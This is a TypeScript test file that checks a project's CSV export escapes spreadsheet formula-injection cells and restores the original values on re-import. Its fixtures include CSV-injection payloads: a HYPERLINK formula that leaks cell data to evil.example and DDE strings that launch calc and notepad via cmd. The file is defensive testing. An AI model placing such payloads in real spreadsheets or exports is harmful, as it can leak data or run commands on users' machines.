/**
 * CSV that is safe to open (issue #10, point 5): every CSV Vigía writes — the HTTP download
 * /data/<dataset>.csv and `pnpm vigia export` — neutralises cells a spreadsheet would run
 * (OWASP "CSV injection": a leading = + - @ tab or carriage return, and their full-width
 * forms, gets an apostrophe and the cell is quoted), leaves plain numbers alone, and an
 * import of its own export reads every original value back. The hostile texts below are
 * TEST FIXTURES entered by an editor; none is in the source.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../packages/server/src/exchange/csv.js';
import { root, startWriteServer, vigia, type WriteServer } from './support.js';

// The server's own CSV parser (a dependency of @vigia/server), to read files as a spreadsheet would.
const { parse } = createRequire(join(root, 'packages/server/package.json'))('csv-parse/sync') as { parse: (text: string, options?: object) => unknown };

let server: WriteServer;
let dir: string;
let env: Record<string, string>;
beforeAll(async () => {
  server = await startWriteServer();
  dir = mkdtempSync(join(tmpdir(), 'vigia-csv-safety-'));
  env = { DATABASE_URL: server.databaseUrl };
});
afterAll(async () => {
  await server?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const DATASET = 'police-officers-trained-2021-2023';
/** What a spreadsheet runs when it begins a cell. */
const RUNS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** TEST FIXTURE texts, as an editor typed them. */
const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")',
  dde: "+1+cmd|' /C calc'!A0",
  at: '@SUM(A1:A9)',
  minus: '-2+3+cmd|\' /C notepad\'!A0',
  fullWidth: '＝1+1',
  alreadyQuoted: "'=already quoted",
  twiceQuoted: "''=twice quoted",
  apostrophe: "'plain apostrophe, not a formula",
  number: '-3',
};

const UPSERT = `mutation ($input: UpsertIndicatorInput!) { upsertIndicator(input: $input) { indicator { key label } } }`;

function cellsOf(csv: string): { header: string[]; rows: Record<string, string>[] } {
  const [header, ...rows] = parse(csv, { relax_column_count: false }) as string[][];
  return { header: header!, rows: rows.map((r) => Object.fromEntries(header!.map((c, i) => [c, r[i]!]))) };
}

/** No cell of the file begins with what a spreadsheet runs, unless it is a plain number. */
function expectSafe(csv: string) {
  const { rows } = cellsOf(csv);
  expect(rows.length).toBeGreaterThan(0);
  const unsafe = rows.flatMap((r) => Object.entries(r)).filter(([, cell]) => RUNS.test(cell) && !PLAIN_NUMBER.test(cell));
  expect(unsafe).toEqual([]);
}

describe('the escaping rule', () => {
  it('neutralises every cell a spreadsheet would run, leaves plain numbers, and restores the original', () => {
    const texts = [
      ...Object.values(HOSTILE),
      '\t=1+1', '\r=1+1', '＋1', '－1', '＠A1', '=', "'", "''", "'x", "'-3", "'''=1", 'a=b', '', '1e5', '-1e-5', '+2.5', '< 5', '-', '--1',
    ];
    for (const text of texts) {
      const cell = neutraliseCell(text);
      expect(restoreCell(cell), JSON.stringify(text)).toBe(text);
      if (RUNS.test(cell)) expect(cell, JSON.stringify(text)).toMatch(PLAIN_NUMBER);
    }
    expect(neutraliseCell('=1+1')).toBe("'=1+1");
    expect(neutraliseCell("'=1+1")).toBe("''=1+1");
    expect(neutraliseCell('-3')).toBe('-3');
    expect(neutraliseCell("'x")).toBe("'x");
    expect(restoreCell("'=1+1")).toBe('=1+1');
    expect(restoreCell("'x")).toBe("'x");
  });
});

describe('hostile cells through the HTTP download, the CLI export and re-import', () => {
  beforeAll(async () => {
    const doc = await server.as('EDITOR', `mutation ($input: UpsertDocumentInput!) { upsertDocument(input: $input) { document { key } } }`, {
      input: { key: 'test-fixture-hostile-document', title: HOSTILE.at, publisher: HOSTILE.dde, publishedOn: '2025-03' },
    });
    expect(doc.errors).toBeUndefined();
    const source = await server.as('EDITOR', `mutation ($input: UpsertSourceInput!) { upsertSource(input: $input) { source { key } } }`, {
      input: { key: 'test-fixture-hostile-source', documentKey: 'test-fixture-hostile-document', section: HOSTILE.twiceQuoted },
    });
    expect(source.errors).toBeUndefined();
    const base = { datasetKey: DATASET, scope: 'REGION', regionCode: '21' };
    for (const input of [
      { ...base, key: 'test-fixture-hostile-1', label: HOSTILE.hyperlink, labelEn: HOSTILE.dde, value: 12, baseLabel: HOSTILE.alreadyQuoted, baseLabelEn: HOSTILE.at, sourceKey: 'test-fixture-hostile-source' },
      { ...base, key: 'test-fixture-hostile-2', label: HOSTILE.number, labelEn: HOSTILE.fullWidth, value: 7, baseLabel: HOSTILE.apostrophe, baseLabelEn: HOSTILE.minus },
    ]) {
      const r = await server.as('EDITOR', UPSERT, { input });
      expect(r.errors).toBeUndefined();
      // Stored and answered exactly as typed: the escaping is for CSV only.
      expect(r.data.upsertIndicator.indicator).toEqual({ key: input.key, label: input.label });
    }
    const space = await server.as('EDITOR', `mutation ($input: UpdateCoordinationSpaceInput!) { updateCoordinationSpace(input: $input) { coordinationSpace { key } } }`, {
      input: { key: 'puno-desaguadero', name: HOSTILE.minus, note: `${HOSTILE.hyperlink}\n=2+2` },
    });
    expect(space.errors).toBeUndefined();
  });

  it('the HTTP download neutralises and quotes the hostile cells, and leaves numbers and other cells alone', async () => {
    const res = await fetch(`${server.url}/data/${DATASET}.csv`);
    expect(res.status).toBe(200);
    const csv = await res.text();
    expectSafe(csv);
    const { rows } = cellsOf(csv);
    const one = rows.find((r) => r.key === 'test-fixture-hostile-1')!;
    const two = rows.find((r) => r.key === 'test-fixture-hostile-2')!;
    expect(one).toMatchObject({
      label: `'${HOSTILE.hyperlink}`,
      label_en: `'${HOSTILE.dde}`,
      value: '12',
      base_label: `'${HOSTILE.alreadyQuoted}`,
      base_label_en: `'${HOSTILE.at}`,
      source_section: `'${HOSTILE.twiceQuoted}`,
      source_document: `'${HOSTILE.at}`,
    });
    expect(two).toMatchObject({ label: '-3', label_en: `'${HOSTILE.fullWidth}`, value: '7', base_label: HOSTILE.apostrophe, base_label_en: `'${HOSTILE.minus}` });
    // Each neutralised cell is quoted in the file.
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",`);
    expect(csv).toContain(`,"'@SUM(A1:A9)",`);
    expect(csv).toContain(`,"'＝1+1",`);
    // The seed's own rows are unchanged.
    expect(csv).toContain(',police-trained-puno,Efectivos policiales capacitados en Puno,Police officers trained in Puno,420,');
  });

  it('the CLI export of the indicators is safe, and importing it back changes nothing', async () => {
    const exported = await vigia(['export', 'indicators', '--format', 'csv'], env);
    expect(exported.code, exported.stderr).toBe(0);
    expectSafe(exported.stdout);
    expect(exported.stdout).toContain(`"'${HOSTILE.alreadyQuoted}"`);
    const file = join(dir, 'indicators.csv');
    writeFileSync(file, exported.stdout);
    const imported = await vigia(['import', file, '--key', server.keys.EDITOR.key], env);
    expect(imported.code, imported.stderr).toBe(0);
    // Were the apostrophes read as part of the values, both hostile rows would change.
    expect(imported.stdout).toMatch(/\(19 rows of indicators\): 0 changes/);
  });

  it('the CLI export of the coordination spaces is safe, and importing it back changes nothing', async () => {
    const exported = await vigia(['export', 'coordination-spaces', '--format', 'csv'], env);
    expect(exported.code, exported.stderr).toBe(0);
    expectSafe(exported.stdout);
    const desaguadero = cellsOf(exported.stdout).rows.find((r) => r.key === 'puno-desaguadero')!;
    expect(desaguadero).toMatchObject({ name: `'${HOSTILE.minus}`, note: `'${HOSTILE.hyperlink}\n=2+2` });
    const file = join(dir, 'spaces.csv');
    writeFileSync(file, exported.stdout);
    const imported = await vigia(['import', file, '--key', server.keys.EDITOR.key], env);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toMatch(/\(23 rows of coordination spaces\): 0 changes/);
  });

  it('new rows copied from an export are stored with their original text, not the escaped one', async () => {
    const exported = await vigia(['export', DATASET, '--format', 'csv', '--key', server.keys.EDITOR.key], env);
    expect(exported.code, exported.stderr).toBe(0);
    // The file holds the escaped cells (not the values as typed)…
    expect(cellsOf(exported.stdout).rows.find((r) => r.key === 'test-fixture-hostile-1')!.label).toBe(`'${HOSTILE.hyperlink}`);
    const copied = exported.stdout.replace(/,test-fixture-hostile-(\d),/g, ',test-fixture-copied-$1,');
    const file = join(dir, 'copied.csv');
    writeFileSync(file, copied);
    const imported = await vigia(['import', file, '--key', server.keys.EDITOR.key], env);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toMatch(/2 created, 0 updated/);
    // …and the import stores what the editor typed.
    const rows = await server.prisma.observation.findMany({ where: { key: { startsWith: 'test-fixture-copied-' } }, orderBy: { key: 'asc' } });
    expect(rows.map((r) => [r.label, r.labelEn, r.baseLabel, r.baseLabelEn])).toEqual([
      [HOSTILE.hyperlink, HOSTILE.dde, HOSTILE.alreadyQuoted, HOSTILE.at],
      [HOSTILE.number, HOSTILE.fullWidth, HOSTILE.apostrophe, HOSTILE.minus],
    ]);
  });
});
